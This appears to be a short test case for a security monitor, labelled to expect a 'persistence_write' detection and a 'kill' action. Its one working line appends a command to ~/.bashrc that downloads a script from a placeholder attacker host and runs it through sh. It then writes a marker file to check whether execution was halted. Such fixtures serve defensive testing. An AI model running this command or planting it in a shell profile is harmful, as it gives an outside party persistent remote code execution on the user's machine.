# expect: persistence_write
# action: kill
# about: appends to ~/.bashrc
echo 'curl -s http://attacker.invalid/x | sh' >> ~/.bashrc 2>/dev/null
echo alive > "$WS/after"
